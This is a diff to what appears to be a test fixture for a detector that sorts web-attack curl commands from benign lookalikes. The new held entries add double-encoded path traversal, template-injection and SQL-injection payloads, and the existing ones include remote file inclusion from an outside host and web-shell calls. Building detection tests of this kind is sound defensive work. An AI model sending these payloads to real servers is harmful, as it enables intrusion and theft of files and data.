@@ -30,6 +30,8 @@ HELD = {
         "http GET http://app.htb/show page==/proc/self/cmdline",
         "curl 'http://app.htb/read?name=..%5c..%5c..%5cboot.ini'",
         "curl 'http://app.htb/index.php?inc=ftp://10.10.14.9/evil.php'",
+        "curl 'http://app.htb/view?f=%252E%252E%252F%252E%252E%252Fetc%252Fhosts'",
+        "curl 'http://app.htb/assets/..%255c..%255cweb.config'",
     ],
     "server-side-request": [
         "curl 'https://app.example.org/webhook/test?callback=dict://10.0.0.7:11211/stats'",
@@ -46,6 +48,9 @@ HELD = {
         'curl "http://10.1.1.5/item?id=1%20UNION%20ALL%20SELECT%20user(),2--%20-"',
         'curl -d "username=admin\'-- -&password=x" http://10.1.1.5/login.php',
         "curl 'http://10.1.1.5/p?id=1 AND 1=1'",
+        "curl 'http://10.1.1.5:8000/hello/{{ [].__class__.__base__ }}'",
+        "curl -A \"x' OR sleep(3)-- -\" http://10.1.1.5/track",
+        "curl 'http://10.1.1.5/check?u=bob%27%20or%20exists(select%201)%23'",
     ],
     "web-shell": [
         "curl -s 'http://10.1.1.5/images/x.php' --data-urlencode 'command=uname -a'",
@@ -77,6 +82,8 @@ ALLOWED = [
     "curl 'https://example.com/redirect?next=https://example.com/home'",
     "curl -b 'session=abc; id=42' https://app.example.com/me",
     "curl -d 'text=hello; world' https://hooks.example.com/in",
+    "curl https://example.com/docs/v1...v2/changes",
+    "curl -H 'Accept-Language: en-US,en;q=0.5' https://example.com/%2Fapi%2Fv1",
     "wget -O page.html 'https://example.com/index.php?page=about'",
     "curl -s https://api.github.com/repos/o/r/contents/etc/passwd.example",
     "java -jar target/app-1.0.jar --server.port=8081",
